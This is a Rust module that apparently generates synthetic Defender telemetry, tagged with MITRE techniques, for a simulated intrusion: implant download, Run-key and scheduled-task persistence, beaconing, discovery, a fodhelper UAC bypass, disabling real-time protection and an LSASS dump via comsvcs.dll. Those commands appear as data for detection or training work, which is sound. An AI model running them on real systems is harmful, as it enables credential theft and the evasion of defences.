//! Staying, reporting home, looking around, raising rights, taking credentials.

use super::delivery::connection;
use super::{CONTROL_IP, CONTROL_NAME, IMPLANT_PATH, Story};
use crate::sample::SampleError;
use crate::sample::cell::Cell;
use crate::sample::clock::Ticks;
use crate::sample::process::{Level, Process};

/// The implant reports home so often, every five minutes.
const BEACONS: usize = 30;

/// Begins with the PowerShell of the macro, ends with the implant in possession of high rights.
pub(super) fn tell<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<Process<'w>, SampleError> {
    let implant = stay(story, shell)?;
    beacons(story, &implant)?;
    discover(story, &implant)?;
    let elevated = raise_rights(story, &implant)?;
    blind_the_defender(story, &elevated)?;
    dump_lsass(story, &elevated)?;
    Ok(elevated)
}

fn stay<'w>(story: &mut Story<'w>, shell: &Process<'w>) -> Result<Process<'w>, SampleError> {
    let victim = story.victim;
    story.on(victim, shell);
    story.file("loader.exe");
    let time = story.at(13.9);
    story.row(
        "DeviceFileEvents",
        time,
        &[
            ("ActionType", Cell::text("FileCreated")),
            ("FileName", Cell::text("msupd.exe")),
            ("FolderPath", Cell::text(IMPLANT_PATH)),
            ("FileOriginUrl", Cell::text("http://203.0.113.66/a/msupd.bin")),
            ("FileOriginIP", Cell::text(CONTROL_IP)),
            ("RequestProtocol", Cell::text("Local")),
            ("AdditionalFields", Cell::text(r#"{"FileType":"PortableExecutable"}"#)),
        ],
    )?;
    story.step(time, "T1105", "the script brings msupd.exe");
    let sid = story.person.account.sid.as_text();
    let time = story.at(14.4);
    story.row(
        "DeviceRegistryEvents",
        time,
        &[
            ("ActionType", Cell::text("RegistryValueSet")),
            (
                "RegistryKey",
                Cell::text(format!("HKEY_CURRENT_USER\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")),
            ),
            ("RegistryValueName", Cell::text("TeamsUpdateHelper")),
            ("RegistryValueType", Cell::text("String")),
            ("RegistryValueData", Cell::text(format!("\"{IMPLANT_PATH}\" -s"))),
        ],
    )?;
    story.step(time, "T1547.001", "a Run key starts msupd.exe at every logon");
    let time = story.at(14.6);
    let command =
        format!("schtasks.exe /create /f /tn \"TeamsUpdateHelper\" /tr \"{IMPLANT_PATH} -s\" /sc minute /mo 30");
    story.start(victim, shell, "schtasks.exe", &command, time, |_| {})?;
    story.step(time, "T1053.005", "and a scheduled task every half hour");
    let time = story.at(15.0);
    story.start(victim, shell, "msupd.exe", &format!("\"{IMPLANT_PATH}\" -s"), time, |_| {})
}

fn beacons<'w>(story: &mut Story<'w>, implant: &Process<'w>) -> Result<(), SampleError> {
    let victim = story.victim;
    story.on(victim, implant);
    for number in 0..BEACONS {
        let jitter = story.scene.dice.between(-10, 11) as f64 / 100.0;
        let time = story.at(16.0 + 5.0 * number as f64 + jitter);
        if number == 0 {
            story.step(time, "T1071.001", format!("msupd.exe reports to {CONTROL_NAME} every five minutes"));
        }
        let beacon = connection(CONTROL_NAME, CONTROL_IP, 443, &mut story.scene.dice);
        story.row("DeviceNetworkEvents", time, &beacon)?;
    }
    Ok(())
}

fn discover<'w>(story: &mut Story<'w>, implant: &Process<'w>) -> Result<(), SampleError> {
    let victim = story.victim;
    let time = story.at(24.0);
    story.step(time, "T1033", "six commands in three minutes ask who and where this is");
    let cmd = story.start(victim, implant, "cmd.exe", "cmd.exe /q", time, |_| {})?;
    for (minute, program, command) in [
        (24.1, "whoami.exe", "whoami /all"),
        (24.6, "systeminfo.exe", "systeminfo"),
        (25.0, "ipconfig.exe", "ipconfig /all"),
        (25.4, "nltest.exe", "nltest /domain_trusts /all_trusts"),
        (25.9, "net.exe", "net group \"Domain Admins\" /domain"),
        (26.4, "tasklist.exe", "tasklist /svc"),
    ] {
        let time = story.at(minute);
        story.start(victim, &cmd, program, command, time, |_| {})?;
    }
    let time = story.at(25.91);
    story.step(time, "T1069.002", "the domain controller is asked for the Domain Admins");
    let fields = concat!(
        r#"{"Count":"1","Category":"Discovery","#,
        r#""AttackTechniques":"Permission Groups Discovery (T1069), Domain Groups (T1069.002)","#,
        r#""SourceComputerOperatingSystemType":"windows","FROM.DEVICE":"FIN-WS-0142","#,
        r#""TO.DEVICE":"SRV-DC01","ACTOR.ACCOUNT":"Mira Okafor"}"#
    );
    let (person, controller) = (story.person, story.scene.controller);
    let query = [
        ("ActionType", Cell::text("SAMR query")),
        ("QueryType", Cell::text("QueryGroup")),
        ("QueryTarget", Cell::text("Domain Admins")),
        ("Protocol", Cell::text("Samr")),
        ("AccountDisplayName", person.display.clone()),
        ("AccountUpn", person.account.upn.clone()),
        ("AccountName", person.account.name.clone()),
        ("AccountDomain", Cell::text("larkspur.example")),
        ("AccountSid", person.account.sid.clone()),
        ("AccountObjectId", person.account.object_id.clone()),
        ("IPAddress", victim.ip.clone()),
        ("DeviceName", victim.name.clone()),
        ("DestinationDeviceName", controller.name.clone()),
        ("Port", Cell::json(51_877)),
        ("DestinationPort", Cell::json(445)),
        ("DestinationIPAddress", controller.ip.clone()),
        ("AdditionalFields", Cell::json(fields)),
    ];
    story.row("IdentityQueryEvents", time, &query)
}

fn raise_rights<'w>(story: &mut Story<'w>, implant: &Process<'w>) -> Result<Process<'w>, SampleError> {
    let victim = story.victim;
    let sid = story.person.account.sid.as_text();
    story.on(victim, implant);
    let time = story.at(38.0);
    story.step(time, "T1548.002", "fodhelper.exe is made to start the implant with high rights");
    story.row(
        "DeviceRegistryEvents",
        time,
        &[
            ("ActionType", Cell::text("RegistryValueSet")),
            ("RegistryKey", Cell::text(format!("HKEY_CURRENT_USER\\{sid}_Classes\\ms-settings\\shell\\open\\command"))),
            ("RegistryValueName", Cell::text("")),
            ("RegistryValueType", Cell::text("String")),
            ("RegistryValueData", Cell::text(format!("{IMPLANT_PATH} -e"))),
        ],
    )?;
    let high = |process: &mut Process<'w>| process.level = Level::High;
    let time = story.at(38.2);
    let helper =
        story.start(victim, implant, "fodhelper.exe", "\"C:\\Windows\\System32\\fodhelper.exe\"", time, high)?;
    let time = story.at(38.25);
    story.start(victim, &helper, "msupd.exe", &format!("\"{IMPLANT_PATH}\" -e"), time, |_| {})
}

fn blind_the_defender<'w>(story: &mut Story<'w>, elevated: &Process<'w>) -> Result<(), SampleError> {
    let victim = story.victim;
    let time = story.at(41.0);
    story.step(time, "T1562.001", "real-time protection is told to stop");
    let command = concat!(
        "powershell.exe -NoProfile -Command ",
        "\"Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true\""
    );
    let shell = story.start(victim, elevated, "powershell.exe", command, time, |_| {})?;
    story.on(victim, &shell);
    story.row(
        "DeviceEvents",
        time.plus(Ticks::seconds(1)),
        &[
            ("ActionType", Cell::text("TamperingAttempt")),
            (
                "RegistryKey",
                Cell::text("HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection"),
            ),
            ("RegistryValueName", Cell::text("DisableRealtimeMonitoring")),
            ("RegistryValueData", Cell::text("1")),
            ("AdditionalFields", Cell::text(r#"{"Status":"Ignored","Target":"RealTimeProtection"}"#)),
        ],
    )
}

fn dump_lsass<'w>(story: &mut Story<'w>, elevated: &Process<'w>) -> Result<(), SampleError> {
    let victim = story.victim;
    let time = story.at(52.0);
    story.step(time, "T1003.001", "the memory of lsass.exe is dumped by way of comsvcs.dll");
    let command = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\kb5031.dmp full";
    let dumper = story.start(victim, elevated, "rundll32.exe", command, time, |_| {})?;
    story.on(victim, &dumper);
    story.row(
        "DeviceEvents",
        time.plus(Ticks(4_100_000)),
        &[
            ("ActionType", Cell::text("OpenProcessApiCall")),
            ("FileName", Cell::text("lsass.exe")),
            ("FolderPath", Cell::text("C:\\Windows\\System32\\lsass.exe")),
            ("AccountName", Cell::text("system")),
            ("AccountDomain", Cell::text("nt authority")),
            ("AccountSid", Cell::text("S-1-5-18")),
            ("ProcessId", Cell::json(724)),
            ("ProcessCommandLine", Cell::text("lsass.exe")),
            ("AdditionalFields", Cell::text(r#"{"DesiredAccess":2097151}"#)),
        ],
    )?;
    story.file("kb5031.dmp");
    story.row(
        "DeviceFileEvents",
        time.plus(Ticks(9_700_000)),
        &[
            ("ActionType", Cell::text("FileCreated")),
            ("FileName", Cell::text("kb5031.dmp")),
            ("FolderPath", Cell::text("C:\\Users\\Public\\kb5031.dmp")),
            ("RequestProtocol", Cell::text("Local")),
            ("AdditionalFields", Cell::text(r#"{"FileType":"Unknown"}"#)),
        ],
    )
}
